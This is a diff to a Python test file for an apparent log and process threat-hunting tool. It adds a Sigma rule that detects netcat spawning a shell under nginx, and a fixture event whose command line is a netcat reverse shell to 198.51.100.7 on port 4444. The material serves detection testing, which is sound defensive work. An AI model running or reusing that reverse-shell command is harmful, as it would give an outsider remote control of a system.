@@ -22,6 +22,7 @@ from vonggac.sources.events import Input, find_inputs, read_input
 from vonggac.sources.hunting import Options, Watched, hunt, read_package
 from vonggac.sources.hunting.packages import is_package, with_origins
 from vonggac.sources.refusal import Refused
+from vonggac.sources.sigma import read_rules
 
 AUTH = b"Mar  2 03:04:05 sshd[7]: Failed password for root from 198.51.100.7 port 22 ssh2\n"
 FILES = {"nhat-ky/var/log/auth.log": b"Mar  2 03:04:05 may-a sshd[7]: Failed password for root from 198.51.100.7 port 22 ssh2\n",
@@ -60,6 +61,15 @@ def as_tar(path: Path, files: Mapping[str, bytes]) -> Path:
     return path
 
 
+RULE = """
+title: nc mở vỏ lệnh
+id: 11111111-1111-4111-8111-111111111111
+logsource: {product: %s, category: process_creation}
+detection:
+  one: {CommandLine|contains: ' -e /bin/', ParentImage|endswith: /nginx, Hashes|contains: SHA256=ABAB}
+  condition: one
+"""
+LINUX, WINDOWS = RULE % "linux", RULE % "windows"
 PACKED = pytest.mark.parametrize("packed", [as_zip, as_tar], ids=["zip", "tar.gz"])
 Packed = Callable[[Path, Mapping[str, bytes]], Path]
 
@@ -117,6 +127,19 @@ def test_a_package_cut_off_loses_only_its_end(tmp_path: Path) -> None:
     list(hunt([path], RuleSet(()), Options(), watched))
     assert watched.events == 1
     assert {bad.rule for bad in watched.bad} >= {"altered-entry", "damaged"}
+
+
+@pytest.mark.parametrize(("system", "rule"), [("linux", LINUX), ("windows", WINDOWS)])
+def test_a_process_that_ran_when_it_was_collected_is_seen_by_rules_of_starting_processes(tmp_path: Path, system: str, rule: str) -> None:
+    (tmp_path / "a.yml").write_text(rule, encoding="utf-8")
+    told = {
+        "vonggac": "tien-trinh", "system": system, "Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 198.51.100.7 4444",
+        "ParentImage": "/usr/sbin/nginx", "started": 1_772_420_645, "sha256": "ab" * 32,
+    }  # fmt: skip
+    files = {"trang-thai/tien-trinh.jsonl": json.dumps(told).encode() + b"\n"}
+    path = as_zip(tmp_path / "goi.zip", lists(files) | files)
+    [found] = hunt([path], read_rules([tmp_path / "a.yml"]).ruleset, Options())
+    assert (found.event.host, found.event.time) == ("may-a", "2026-03-02T03:04:05.000000Z")
 
 
 def test_what_is_no_package_is_refused_in_a_sentence(tmp_path: Path) -> None:
